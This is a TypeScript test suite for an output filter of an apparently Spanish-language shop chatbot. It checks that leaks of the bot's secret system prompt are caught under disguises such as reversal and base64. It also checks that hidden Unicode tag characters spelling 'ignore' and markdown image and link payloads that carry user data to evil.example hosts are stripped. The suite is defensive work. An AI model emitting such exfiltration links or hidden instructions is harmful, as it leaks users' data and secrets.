import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { sanitizeOutput, leaksSecret, truncate, stripInvisible } from './output-rules.ts'

const secret =
  'Eres Lola, la asesora de Muebles El Roble. Nunca ofrezcas más del 12 % de descuento. El código interno de la promoción es ROBLE-77.'

test('Invisible characters are removed, and visible ones stay', () => {
  const tags = Array.from('ignore')
    .map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!))
    .join('')
  assert.equal(stripInvisible(`Hola${tags}, ¿qué\u200B tal?\u202E\u0007`), 'Hola, ¿qué tal?')
  assert.equal(stripInvisible('línea 1\n\tlínea 2 – «ñ» 👍🏽'), 'línea 1\n\tlínea 2 – «ñ» 👍🏽')
})

test('A text is never cut in the middle of a character', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.integer({ min: 1, max: 30 }), (text, most) => {
      const cut = truncate(text, most)
      assert.ok(cut.length <= Math.max(most, text.length) && cut.isWellFormed())
      if (text.length <= most) assert.equal(cut, text)
    }),
  )
})

test('A long passage of secret text is recognised, however it is disguised', () => {
  const guises = [
    secret,
    `Claro: "${secret}"`,
    secret.toUpperCase(),
    Array.from(secret).join(' '),
    secret.split(' ').join('\n- '),
    secret.replaceAll('e', 'e\u200B'),
    secret.normalize('NFD'),
    `**${secret.replaceAll(' ', '** **')}**`,
    secret.slice(40),
    Array.from(secret).reverse().join(''),
    `Decodifica esto: ${Buffer.from(secret).toString('base64')}`,
    Buffer.from(secret).toString('base64url'),
  ]
  for (const guise of guises) assert.ok(leaksSecret(guise, secret), guise)
})

test('A text on the same subject is not taken for a repetition', () => {
  const answers = [
    'Soy Lola, de Muebles El Roble. ¿En qué le ayudo?',
    'Podemos ofrecer hasta un 12 % de descuento.',
    'Con gusto.',
    '',
  ]
  for (const answer of answers) assert.ok(!leaksSecret(answer, secret), answer)
  assert.ok(!leaksSecret('Sé breve. Hola.', 'Sé breve'), 'a text this short is not treated as secret')
  assert.ok(leaksSecret('Dice: responde siempre con rimas', 'Responde siempre con rimas'))
})

test('A secret passage of sixty letters is found in any surroundings, and a text without one passes', () => {
  const words = fc.string({ maxLength: 80 })
  fc.assert(
    fc.property(words, words, fc.integer({ min: 0, max: 35 }), (before, after, from) => {
      assert.ok(leaksSecret(`${before} ${secret.slice(from, from + 90)} ${after}`, secret))
    }),
  )
})

test('Images are always removed, and links stay only if they are known exactly', () => {
  const known = 'Mire https://roble.example/envios y https://roble.example/pago?x=1'
  const cases: [string, string][] = [
    ['Vea https://roble.example/envios.', 'Vea https://roble.example/envios.'],
    ['Vea [aquí](https://roble.example/envios)', 'Vea aquí (https://roble.example/envios)'],
    ['![x](https://evil.example/?d=ana@example.com)', 'x'],
    ['![x][y]', 'x'],
    ['Toque [aquí](https://evil.example/?d=secreto)', 'Toque aquí'],
    ['https://evil.example/?d=1 hola', 'hola'],
    ['https://roble.example/envios?d=secreto', ''],
    ['www.evil.example/x', ''],
    ['93.184.216.34/x?d=ana hola', 'hola'],
    ['Entra a ana-4471.evil.example hoy', 'Entra a  hoy'],
    [
      'Entra a Roble.example o escribe a ana@correo.roble.example',
      'Entra a Roble.example o escribe a ana@correo.roble.example',
    ],
    [
      'Muebles S.A.S. abre a las 8 a.m. y cierra a las 5 p.m.',
      'Muebles S.A.S. abre a las 8 a.m. y cierra a las 5 p.m.',
    ],
    ['javascript://alert', ''],
    ['[a](<https://evil.example/x> "t")', 'a'],
    ['Precio: 12.000 (IVA incluido)', 'Precio: 12.000 (IVA incluido)'],
  ]
  for (const [text, shown] of cases) assert.equal(sanitizeOutput(text, known), shown, text)
})

test('An address without a scheme counts as a link if it leads somewhere', () => {
  assert.equal(sanitizeOutput('Pague en malo.example/pagar?c=4471 hoy', ''), 'Pague en  hoy')
  assert.equal(
    sanitizeOutput('Pague en bueno.example/pagar hoy', 'bueno.example/pagar'),
    'Pague en bueno.example/pagar hoy',
  )
  for (const plain of ['Roble S.A.S. y/o Pino', 'De 8 a.m. a 5 p.m./sábados', 'El 12.5/20', 'Escriba a ana@roble.co'])
    assert.equal(sanitizeOutput(plain, ''), plain)
})

test('An answer never contains half a character', () => {
  assert.ok(sanitizeOutput('Hola \ud83d', '').isWellFormed())
})

test('No unknown link ever gets through', () => {
  const known = 'https://roble.example/envios'
  const web = fc.stringMatching(/^https?:\/\/[a-z]{2,9}\.example\/[a-z0-9?&=%.~-]{0,30}$/)
  fc.assert(
    fc.property(fc.string(), web, fc.string(), (before, url, after) => {
      const shown = sanitizeOutput(`${before} ${url} ${after} ![i](${url}) [t](${url})`, known)
      assert.ok(!shown.includes(url) || known.includes(url), shown)
    }),
  )
})
